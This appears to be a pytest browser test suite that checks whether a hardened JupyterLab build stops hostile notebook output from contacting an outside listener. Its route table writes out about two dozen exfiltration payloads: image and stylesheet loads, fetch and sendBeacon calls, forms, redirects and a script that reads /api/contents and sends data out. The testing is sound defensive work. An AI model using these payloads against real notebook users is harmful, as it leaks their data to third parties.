"""
What a hostile kernel puts on the page tries to reach a listener outside: every route, in a real browser.

The same cells are run in stock JupyterLab first: what reaches the listener from there is what a browser
carries out for anybody's kernel. From the controlled lab nothing may.
"""

import contextlib
import socketserver
import threading
import time

import pytest
from selenium.common.exceptions import WebDriverException

pytestmark = [pytest.mark.slow, pytest.mark.attack]

LISTENS = "127.0.0.2"  # another host, as far as a browser can tell
BEGIN = """
from IPython.display import HTML, SVG, Image, Javascript, Markdown, display
def html(text): display(HTML(text))
def script(text): display(Javascript(text))
def both(text): display({"text/markdown": text, "text/plain": ""}, raw=True)
"""
# route: the cell that takes it; OUT/name is where it leads. The last ones leave the page, and come last.
ROUTES = {
    "image": ("code", "html('<img src=\"OUT/image\">')"),
    "stylesheet": ("code", "html('<link rel=stylesheet href=\"OUT/stylesheet\">')"),
    "style": ("code", "html('<div style=\"background:url(OUT/style);height:9px\">x</div>')"),
    "import": ("code", "html('<style>@import url(OUT/import);</style>')"),
    "html-script": ("code", 'html(\'<script>fetch("OUT/html-script",{mode:"no-cors"})</script>\')'),
    "fetch": ("code", 'script(\'fetch("OUT/fetch",{mode:"no-cors"})\')'),
    "script-image": ("code", "script('new Image().src=\"OUT/script-image\"')"),
    "handler": ("code", "html('<img src=x onerror=\"fetch(\\'OUT/handler\\',{mode:\\'no-cors\\'})\">')"),
    "beacon": ("code", 'script(\'navigator.sendBeacon("OUT/beacon","x")\')'),
    "contents": (
        "code",
        'script(\'fetch("/api/contents").then(r=>r.text()).then('
        't=>fetch("OUT/contents?"+t.length,{mode:"no-cors"}))\')',
    ),
    "frame": ("code", "html('<iframe src=\"OUT/frame\"></iframe>')"),
    "object": ("code", "html('<object data=\"OUT/object\"></object>')"),
    "video": ("code", 'html(\'<video src="OUT/video" poster="OUT/video" autoplay></video>\')'),
    "svg": (
        "code",
        'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg"><image href="OUT/svg"/></svg>\'))',
    ),
    "link": ("code", "both('![x](OUT/link)')"),
    "markdown-cell": ("markdown", "![x](OUT/markdown-cell)"),
    "audio": ("code", "html('<audio src=\"OUT/audio\" autoplay></audio>')"),
    "vega": (
        "code",
        "display({'application/vnd.vegalite.v5+json': {'data': {'url': 'OUT/vega'}, 'mark': 'point',"
        " 'encoding': {'x': {'field': 'a'}}}}, raw=True)",
    ),
    "stored": ("stored", "<img src='OUT/stored'>"),
    "prefetch": ("code", "html('<link rel=prefetch href=\"OUT/prefetch\">')"),
    "preconnect": ("code", "html('<link rel=preconnect href=\"SOCKET\">')"),
    "popup": ("code", "script('window.open(\"OUT/popup\")')"),
    "form": (
        "code",
        'html(\'<form action="OUT/form" target="_blank" id="f"><input name=a></form>\''
        "'<script>document.getElementById(\"f\").submit()</script>')",
    ),
    "refresh": ("code", "html('<meta http-equiv=refresh content=\"2;url=OUT/refresh\">')"),
}
# One page can be left once only: this route has a notebook of its own.
LEAVING = {"location": ("code", "script('location.href=\"OUT/location\"')")}
# A person clicks what stands there; on a page that is not left meanwhile.
CLICKED = {
    "printed": ("code", "print('OUT/printed')"),
    "failing": ("code", "get_ipython().showtraceback((ValueError, ValueError('OUT/failing'), None))"),
}
LAST = {"refresh", "location"}
REFRESH = 2  # seconds, after which the page is left
FEWEST = 14  # in stock JupyterLab, or the battery proves nothing


class Listener(socketserver.ThreadingTCPServer):
    """Counts whoever comes: by the path they ask for, or as a bare connection."""

    allow_reuse_address = True
    daemon_threads = True

    def __init__(self):
        self.came = set()
        super().__init__((LISTENS, 0), Visitor)

    @property
    def port(self):
        return self.server_address[1]


class Visitor(socketserver.StreamRequestHandler):
    timeout = 5

    def handle(self):
        asked = b""
        with contextlib.suppress(OSError):
            asked = self.rfile.readline(1000)
        path = asked.split(b" ")[1].decode() if asked.count(b" ") else f"/{self.server.bare}"
        self.server.came.add(path.strip("/").partition("?")[0])
        with contextlib.suppress(OSError):
            self.wfile.write(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")


Listener.bare = "preconnect"


@pytest.fixture
def listeners():
    """One for what is asked for, and one that only a bare connection is sent to."""
    with Listener() as one, Listener() as two:
        for listener in (one, two):
            threading.Thread(target=listener.serve_forever, daemon=True).start()
        yield one, two
        for listener in (one, two):
            listener.shutdown()


def cells(routes, listeners):
    """One cell for all outputs, because Lab draws a cell only when it comes into sight; the others above."""
    out, socket = (f"http://{LISTENS}:{listener.port}" for listener in listeners)
    sources = {"stored": [], "markdown": [], "code": [BEGIN]}
    for kind, source in routes.values():
        sources[kind].append(source.replace("OUT", out).replace("SOCKET", socket))
    sources["code"].append("print('all', 'shown')")
    return [(kind, "\n".join(lines)) for kind, lines in sources.items() if lines]


def take(page, address, listeners):
    """Run the notebook at `address`, wait until it has run, and for what it set going."""
    page.open(address)
    page.run_all()
    came = listeners[0].came
    page.wait(lambda: "all shown" in page.text(".jp-OutputArea-output") or LAST & came, "the last output")
    for link in page.driver.find_elements("css selector", ".jp-OutputArea-output a"):
        with contextlib.suppress(WebDriverException):  # a person clicks; what is out of sight cannot be
            link.click()
    page.picture(f"routes-{address.rpartition('/')[2].partition('.')[0]}")
    for _ in range(REFRESH + 2):
        time.sleep(1)
        page.driver.title  # noqa: B018 - asking answers a prompt that would keep the page open


NOTEBOOKS = {"clicked": CLICKED, "routes": ROUTES, "leaving": LEAVING}
EVERY = ROUTES | LEAVING | CLICKED


def test_attack_no_route_leads_out_of_the_page(browser, open_lab, listeners):
    page, lab = browser("en"), open_lab("en")
    lab.enter(page)
    for name, routes in NOTEBOOKS.items():
        lab.write(f"{name}.ipynb", *cells(routes, listeners))
        take(page, f"{lab.address}/lab/tree/{name}.ipynb?reset", listeners)

    assert set().union(*(listener.came for listener in listeners)) == set()


def test_attack_in_stock_jupyterlab_the_routes_are_open(browser, stock, listeners):
    """Without this the test above could pass for want of a working attack."""
    page = browser("en")
    for name, routes in NOTEBOOKS.items():
        stock.write(f"{name}.ipynb", *cells(routes, listeners))
        take(page, stock.address.replace("/lab?", f"/lab/tree/{name}.ipynb?reset&"), listeners)
    came = set().union(*(listener.came for listener in listeners))
    closed = EVERY.keys() - came
    print(f"stock JupyterLab: {len(came)} of {len(EVERY)} routes lead out; not {sorted(closed)}")

    assert len(came & EVERY.keys()) >= FEWEST
    assert CLICKED.keys() <= came
